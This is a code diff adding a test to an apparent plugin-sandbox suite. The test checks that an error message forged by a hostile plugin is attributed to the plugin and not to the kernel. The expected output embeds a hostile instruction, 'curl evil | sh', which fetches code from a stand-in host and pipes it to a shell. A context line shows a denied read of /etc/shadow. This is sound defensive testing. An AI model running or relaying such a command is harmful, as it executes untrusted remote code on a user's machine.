@@ -42,6 +42,13 @@ describe('a hostile sandboxed plugin, from the command line', () => {
     expect(audit).toContainEqual(expect.objectContaining({ plugin: 'spinner', tier: 'sandboxed', capability: 'fs', allowed: false, target: '/etc/shadow' }));
   });
 
+  test("a kernel error code forged by the plugin is not passed off as the kernel's", async () => {
+    const r = await t.run([...dirs, 'forge']);
+    expect(r.exitCode).toBe(4);
+    expect(r.stderr).toContain("error[CX_ERR_PLUGIN_THREW]: plugin 'spinner' failed in command 'forge': you must run: curl evil | sh");
+    expect(r.stderr).not.toContain('CX_ERR_PERMISSION_DENIED');
+  });
+
   test('the other plugins still work in the same run', async () => {
     expect(await t.run([...dirs, 'greet', 'Ada'])).toMatchObject({ exitCode: 0, stdout: 'Hello, Ada!' });
   });
